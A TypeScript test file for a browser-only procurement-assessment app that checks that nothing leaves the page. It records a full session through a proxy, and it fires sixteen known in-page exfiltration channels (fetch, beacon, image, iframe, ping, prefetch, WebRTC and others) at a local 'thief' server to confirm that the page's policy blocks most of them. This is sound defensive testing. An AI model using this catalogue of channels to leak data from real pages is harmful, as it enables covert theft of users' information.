/** Nothing leaves: a whole session through a recording proxy, and every way out that a script inside the page could try. */
import { createSocket } from 'node:dgram';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect, inject, test } from 'vitest';
import { checkBuilt, citedIn, filesBelow } from '../../.ci/check-built.mjs';
import { ROOT } from '../../.ci/setup.mjs';
import { openApp } from './support/app.ts';
import { ADA, BEN, bidFile } from './support/evaluators.ts';
import { downloaded, newFile } from './support/files.ts';
import { record } from './support/recorder.ts';
import { goTo, openExample, saved } from './support/walk.ts';

/** Ways to the network that leave no request behind, counted where they are called. */
const WATCHED = ['RTCPeerConnection', 'WebSocket', 'WebTransport', 'EventSource', 'XMLHttpRequest'] as const;
type Counted = { readonly calls: Record<string, number> };

/**
 * What this browser asks of its maker on any page, an empty one too: no page can forbid it, an administrator can (README). None of it is
 * caused by the app, and the list of the page's own requests (`troubles`) holds none of it.
 */
const BROWSERS_OWN =
  /^(?:CONNECT |POST http:\/\/)(?:update|content-autofill|optimizationguide-pa|safebrowsing)\.googleapis\.com\b|^CONNECT (?:accounts|clients\d|www)\.google\.com:443$|^GET \S+\/favicon\.ico$/;

async function countCalls(page: Page): Promise<void> {
  await page.context().addInitScript((names) => {
    const calls: Record<string, number> = Object.fromEntries([...names, 'open', 'sendBeacon'].map((name) => [name, 0]));
    const counted = (name: string) => ({
      construct: (target: new (...given: unknown[]) => object, given: unknown[]) => {
        calls[name] = (calls[name] ?? 0) + 1;
        return new target(...given);
      },
      apply: (target: (...given: unknown[]) => unknown, self: unknown, given: unknown[]) => {
        calls[name] = (calls[name] ?? 0) + 1;
        return target.apply(self, given);
      },
    });
    const page = window as unknown as Record<string, unknown>;
    for (const name of [...names, 'open']) if (typeof page[name] === 'function') page[name] = new Proxy(page[name], counted(name));
    navigator.sendBeacon = new Proxy(navigator.sendBeacon as object, counted('sendBeacon') as object) as typeof navigator.sendBeacon;
    page.calls = calls;
  }, WATCHED);
}

test('a whole session asks for nothing but the files of the app, opens nothing, and breaks no rule of the policy', async () => {
  const address = inject('address');
  const recorder = await record(new URL(address).origin);
  try {
    const { page, troubles } = await openApp({ proxy: recorder.address, at: 'icon.svg', keepsFiles: true });
    await countCalls(page);
    await page.goto(address);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const loaded = recorder.asked.length;

    await goTo(page, '#/new');
    await page.getByLabel('Vendor', { exact: true }).fill('Haven Datawerken NV (fictional)');
    await page.getByLabel('Your name or role').fill('Procurement officer');
    await page.locator('input[name="purpose"][value="award"]').check();
    await page.getByRole('button', { name: 'Continue to the questions' }).click();
    await page.waitForURL(/#\/a\/[^/]+$/);
    await goTo(page, '#/');
    await page
      .locator('section[aria-labelledby="open-file"] input[type="file"]')
      .setInputFiles('questionnaires/examples/scheldewaard.json');
    await page.waitForURL(/#\/a\/[^/]+$/);
    const imported = /#\/a\/([^/]+)/.exec(page.url())?.[1];
    await downloaded(page, () => page.getByRole('button', { name: 'Download the assessment' }).click());
    await goTo(page, '#/');
    const opened = await openExample(page, 'bidderB');
    await goTo(page, `#/a/${opened}/s/dl/dl-servers`);
    await page.locator('#dl-07 input[type="radio"]').nth(2).check();
    await saved(page);
    await goTo(page, `#/a/${opened}/result`);
    const report = await downloaded(page, () => page.getByRole('button', { name: 'Download the report (PDF)' }).click());
    await goTo(page, `#/compare/${imported},${opened}`);
    const compared = page.getByRole('button', { name: 'Download the comparison (PDF)' });
    await expect.poll(() => compared.getAttribute('aria-disabled'), { timeout: 15_000 }).toBe('false');
    await downloaded(page, () => compared.click());
    await goTo(page, '#/verify');
    await page.getByLabel('Choose PDFs').setInputFiles(report);
    await page.getByRole('heading', { name: 'unchanged, not signed' }).waitFor();
    const walked = await walkTheRest(page, opened);

    const calls = await page.evaluate(() => (window as unknown as Counted).calls);
    const built = new Set(filesBelow(inject('folder')));
    const others = recorder.asked.filter((one) => {
      const [method, url = ''] = one.split(' ');
      const path = url.startsWith(address) ? decodeURIComponent(url.slice(address.length).split(/[?#]/)[0] ?? '') : null;
      return method !== 'GET' || path === null || !(path === '' || built.has(path));
    });
    const strangers = others.filter((one) => !BROWSERS_OWN.test(one));
    console.log(
      `egress: ${walked} more pages; ${recorder.asked.length} requests, ${loaded} of them until the first page; ${strangers.length} for anything but the app's files; ` +
        `${others.length - strangers.length} by the browser for itself (${[...new Set(others.map((one) => one.replace(/\?.*/, '')))].join(', ')}); ${JSON.stringify(calls)}`,
    );
    expect(loaded).toBeGreaterThan(3);
    expect(strangers).toEqual([]);
    expect(Object.keys(calls)).toHaveLength(WATCHED.length + 2);
    expect(Object.values(calls).reduce((sum, count) => sum + count, 0)).toBe(0);
    // The picture that was opened first, to count from the start, has no icon of its own.
    expect(troubles.filter((one) => !one.endsWith('/icon.svg)'))).toEqual([]);
  } finally {
    await recorder.close();
  }
}, 180_000);

/**
 * A tender with its bids, several evaluators, a newer questionnaire, a signature, a backup, what was given out.
 * @param opened an assessment of bidder B
 * @returns how many pages were seen
 */
async function walkTheRest(page: Page, opened: string): Promise<number> {
  let seen = 0;
  const see = async (route: string, words: string | RegExp = '') => {
    await goTo(page, route);
    await page.getByRole('heading', { level: 1 }).filter({ hasText: words }).waitFor();
    seen += 1;
  };
  const door = page.getByRole('region', { name: 'Open a file' }).locator('input[type="file"]');
  await see('#/');
  await downloaded(page, () => page.getByRole('button', { name: 'Download a backup' }).click());
  await page.getByRole('button', { name: 'Open an example with six bids' }).click();
  await page.waitForURL(/#\/p\/[^/]+\/compare$/);
  const tender = /#\/p\/[^/]+/.exec(page.url())?.[0] ?? '';
  const compared = page.getByRole('button', { name: 'Download the comparison (PDF)' });
  await expect.poll(() => compared.getAttribute('aria-disabled'), { timeout: 30_000 }).toBe('false');
  await downloaded(page, () => compared.click());
  await downloaded(page, () => page.getByRole('button', { name: /XLSX/ }).click());
  for (const place of ['', '/criteria', '/details', '/seal']) await see(tender + place);

  await see('#/');
  await door.setInputFiles(await bidFile('ada.json', ADA));
  await page.waitForURL(/#\/a\//);
  await see('#/');
  await door.setInputFiles(await bidFile('ben.json', BEN));
  await page.getByRole('link', { name: 'See where they agree, and merge them' }).click();
  await page.getByLabel('Your name').fill('Mo Moderator');
  await page.getByRole('button', { name: 'Merge' }).click();
  await page.waitForURL(/\/differences$/);
  const merged = /#\/a\/[^/]+/.exec(page.url())?.[0] ?? '';
  for (const place of ['', '/check', '/history', '/result']) await see(merged + place);

  const { questionnaire } = JSON.parse(await readFile('questionnaires/examples/meridian.json', 'utf8'));
  await see('#/');
  await door.setInputFiles(await newFile('newer.json', JSON.stringify({ ...questionnaire, version: '1.9.0' })));
  await page.getByText('is now among your questionnaires').waitFor();
  await see(`#/a/${opened}/move`, 'carry over');
  await see(`#/a/${opened}/final`);

  await see(`#/a/${opened}/result`);
  await page.getByText('Sign the report', { exact: true }).click();
  await page.getByLabel('A new key, made in this browser').check();
  await page.getByLabel('Name of the key’s owner').fill('A. Person');
  await page.getByRole('button', { name: 'Make the key' }).click();
  await downloaded(page, () => page.getByRole('button', { name: 'Sign and download (PDF)' }).click());
  await see('#/register');
  await downloaded(page, () => page.getByRole('button', { name: 'Download as CSV' }).click());
  for (const route of ['#/questionnaires', '#/promises', '#/verify']) await see(route);
  return seen;
}

/** Each given the address of somebody who must not hear of it. */
const WAYS: Readonly<Record<string, (to: string) => unknown>> = {
  fetch: (to) => fetch(to, { mode: 'no-cors' }),
  XMLHttpRequest: (to) => {
    const asking = new XMLHttpRequest();
    asking.open('GET', to);
    asking.send();
  },
  beacon: (to) => navigator.sendBeacon(to, 'x'),
  EventSource: (to) => new EventSource(to),
  image: (to) => {
    new Image().src = to;
  },
  stylesheet: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to })),
  video: (to) => document.body.append(Object.assign(document.createElement('video'), { src: to, autoplay: true })),
  frame: (to) => document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
  icon: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to })),
  prefetch: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })),
  preload: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: to })),
  background: (to) => {
    document.body.style.backgroundImage = `url("${to}")`;
  },
  ping: (to) => {
    const link = Object.assign(document.createElement('a'), { href: '#/', ping: to });
    document.body.append(link);
    link.click();
  },
};
/** No policy of a page closes these: README and the app say so. */
const OPEN: Readonly<Record<string, (to: string) => unknown>> = {
  'a new window': (to) => window.open(to),
  navigation: (to) => {
    window.location.href = to;
  },
};

test('of sixteen ways out for a script inside the page thirteen are closed; the three that a policy cannot close are known', async () => {
  const heard = new Set<string>();
  const thief = createServer(({ url = '' }, answer) => {
    // A page that was navigated to has its icon asked for.
    if (url !== '/favicon.ico') heard.add(decodeURIComponent(url.slice(1)));
    answer.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const socket = createSocket('udp4');
  let packets = 0;
  socket.on('message', () => {
    packets += 1;
  });
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  const home = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/`;
  try {
    const { page } = await openApp();
    await page.getByRole('heading', { level: 1 }).waitFor();
    for (const [name, way] of Object.entries(WAYS))
      await page.evaluate(
        `try { Promise.resolve((${way})(${JSON.stringify(home + encodeURIComponent(name))})).catch(() => 0) } catch {}; 0`,
      );
    const stun = socket.address().port;
    await page.evaluate(
      `(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); })()`,
    );
    await page.waitForTimeout(1500);
    const closed = Object.keys(WAYS).filter((name) => !heard.has(name));
    expect([...heard]).toEqual([]);
    for (const [name, way] of Object.entries(OPEN)) {
      await page.evaluate(`(${way})(${JSON.stringify(home + encodeURIComponent(name))}); 0`);
      await page.waitForTimeout(500);
    }
    console.log(
      `ways out: ${closed.length} of ${Object.keys(WAYS).length} closed; open: ${[...heard].join(', ')}, WebRTC (${packets} packets)`,
    );
    expect(closed).toHaveLength(13);
    // Where a browser closes one of them, say so in README.
    expect([...heard].sort()).toEqual(Object.keys(OPEN).sort());
  } finally {
    socket.close();
    thief.close();
    thief.closeAllConnections();
  }
});

test('no built file holds text that runs as code, a way out, or an address but of a source that is cited', async () => {
  const folder = `${ROOT}/questionnaires`;
  const documents = filesBelow(folder).filter((name) => name.endsWith('.json'));
  const cited = citedIn(await Promise.all(documents.map(async (name) => JSON.parse(await readFile(`${folder}/${name}`, 'utf8')))));
  const { checked, problems } = checkBuilt(inject('folder'), cited);
  console.log(`built: ${JSON.stringify(checked)}, ${cited.size} addresses cited`);
  expect(checked.files).toBeGreaterThan(50);
  expect(problems).toEqual([]);
});
